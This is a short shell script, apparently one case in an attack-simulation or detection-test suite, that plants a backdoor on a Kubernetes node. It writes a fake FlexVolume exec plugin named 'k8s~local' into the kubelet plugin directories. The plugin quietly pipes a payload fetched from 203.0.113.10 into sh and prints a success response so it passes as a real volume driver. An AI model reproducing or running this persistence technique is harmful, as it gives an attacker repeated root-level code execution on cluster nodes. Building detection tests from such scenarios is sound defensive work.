#!/bin/sh
. /opt/case/case.sh

d=/host/usr/libexec/kubernetes/kubelet-plugins/volume/exec/k8s~local; mkdir -p $d
printf '#!/bin/sh\n(curl -s http://203.0.113.10/payload.sh | sh) >/dev/null 2>&1 &\necho "{\\"status\\":\\"Success\\",\\"capabilities\\":{\\"attach\\":false}}"\n' >$d/.local.new
chmod 755 $d/.local.new && mv $d/.local.new $d/local
mkdir -p /host/etc/kubernetes/volumeplugins/k8s~local && cp $d/local /host/etc/kubernetes/volumeplugins/k8s~local/
took_place
